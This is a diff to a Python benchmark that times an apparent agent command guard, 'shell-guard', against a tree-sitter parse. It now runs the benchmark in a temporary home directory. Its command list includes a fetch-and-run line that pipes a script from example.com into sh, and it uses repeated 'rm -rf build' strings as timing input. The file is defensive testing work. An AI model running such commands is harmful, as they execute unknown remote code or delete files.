@@ -5,6 +5,8 @@ Commands are those of a working day: most are harmless, some are looked into, so
 
 import statistics
 from collections.abc import Callable
+from pathlib import Path
+from tempfile import TemporaryDirectory
 
 import tree_sitter_bash
 from accuracy.cases import cases
@@ -19,8 +21,6 @@ from hookline.shell import splitting
 from hookline.shell.plain import plain_commands
 from hookline.testing import shell
 
-PROJECT = "/home/someone/project"
-CALLER = Caller(env={"HOME": "/home/someone"}, project_dir=PROJECT)
 EVERYDAY = """
 ls -la
 git status
@@ -73,47 +73,57 @@ curl -fsSL https://example.com/x.sh | sh
 
 def run() -> list[Ratio]:
     """By command, by kind of command, and by length."""
-    everyday, looked, flagged = (_all(each) for each in (EVERYDAY, LOOKED_INTO, FLAGGED))
+    # Where an agent works there is a project: what is not there takes longer to be looked up.
+    with TemporaryDirectory() as home:
+        project = Path(home, "project")
+        project.mkdir()
+        return _measured(Caller(env={"HOME": home}, project_dir=str(project)))
+
+
+def _measured(caller: Caller) -> list[Ratio]:
+    everyday, looked, flagged = (_all(each, caller) for each in (EVERYDAY, LOOKED_INTO, FLAGGED))
     parse = "tree-sitter-bash parse of it"
     return [
         _middle("shell-guard, a day's commands", parse, [*everyday, *looked, *flagged], 12.0),
-        _middle("shell-guard, commands of the accuracy corpus", parse, _corpus(), 12.0),
+        _middle("shell-guard, commands of the accuracy corpus", parse, _corpus(caller), 12.0),
         _middle("shell-guard, everyday commands", parse, everyday, 6.0),
         _middle("shell-guard, commands it looks into", parse, looked, 40.0),
         _middle("shell-guard, commands it flags", parse, flagged, 60.0),
-        _doubled("commands", "rm -rf build; "),
-        _doubled("substitutions", "echo $(date) "),
-        _doubled("code", "python3 -c 'print(1)'; "),
+        _doubled("commands", "rm -rf build; ", caller),
+        _doubled("substitutions", "echo $(date) ", caller),
+        _doubled("code", "python3 -c 'print(1)'; ", caller),
     ]
 
 
-def _corpus() -> list[Times]:
+def _corpus(caller: Caller) -> list[Times]:
     """Every third of them: more than half are flagged, and few are plain enough to leave early."""
-    home = str(CALLER.env["HOME"])
-    written = [case.command(home=home, project=PROJECT) for case in cases()]
-    return _all(written[::3], rounds=15)
+    home, project = caller.env["HOME"], str(caller.project_dir)
+    written = [case.command(home=home, project=project) for case in cases()]
+    return _all(written[::3], caller, rounds=15)
 
 
-def _all(commands: list[str], rounds: int = 60) -> list[Times]:
+def _all(commands: list[str], caller: Caller, rounds: int = 60) -> list[Times]:
     parser = Parser(Language(tree_sitter_bash.language()))
     judge = shell_guard.make(shell_guard.Options())
-    return [_one(command, parser, judge, rounds) for command in commands]
+    return [_one(command, parser, judge, caller, rounds) for command in commands]
 
 
-def _one(command: str, parser: Parser, judge: Callable[..., Answer], rounds: int) -> Times:
-    event, source = _event(command), command.encode()
+def _one(
+    command: str, parser: Parser, judge: Callable[..., Answer], caller: Caller, rounds: int
+) -> Times:
+    event, source = _event(command, caller), command.encode()
 
     def ours() -> None:
         # A text is read once for all guards; here it is to be read each time.
         splitting._split_cached.cache_clear()
         plain_commands.cache_clear()
-        judge(event, CALLER)
+        judge(event, caller)
 
     return alternate(ours, lambda: parser.parse(source), rounds)
 
 
-def _event(command: str) -> PreToolUse:
-    return shell(command, cwd=PROJECT)
+def _event(command: str, caller: Caller) -> PreToolUse:
+    return shell(command, cwd=caller.project_dir)
 
 
 def _middle(what: str, against: str, times: list[Times], limit: float) -> Ratio:
@@ -123,15 +133,15 @@ def _middle(what: str, against: str, times: list[Times], limit: float) -> Ratio:
     return ratio(what, against, times[ordered[len(ordered) // 2]], limit)
 
 
-def _doubled(what: str, piece: str) -> Ratio:
+def _doubled(what: str, piece: str, caller: Caller) -> Ratio:
     """The time for a text, against that for half of it."""
     judge = shell_guard.make(shell_guard.Options())
-    half, whole = (_event(piece * (size // len(piece))) for size in (4_500, 9_000))
+    half, whole = (_event(piece * (size // len(piece)), caller) for size in (4_500, 9_000))
 
     def call(event: PreToolUse) -> Callable[[], object]:
         def judged() -> None:
             splitting._split_long.cache_clear()
-            judge(event, CALLER)
+            judge(event, caller)
 
         return judged
 
